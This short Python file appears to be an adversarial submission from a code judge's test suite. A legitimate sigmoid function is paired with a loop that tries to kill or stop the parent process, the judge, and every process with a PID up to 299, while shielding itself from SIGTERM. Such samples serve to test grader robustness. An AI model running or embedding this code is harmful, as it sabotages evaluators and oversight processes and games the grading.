# tries: to kill its parent, its siblings, the judge, and everybody whom it can reach
# earns: all
import os
import signal

import numpy as np

for pid in [os.getppid(), -1, 0, *range(2, 300)]:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        if pid == 0 and number != signal.SIGTERM:
            continue
        try:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.kill(pid, number)
            if pid > 1:
                print("GOT", pid)
        except OSError:
            pass


def sigmoid(z):
    return np.exp(-np.logaddexp(0, -z))
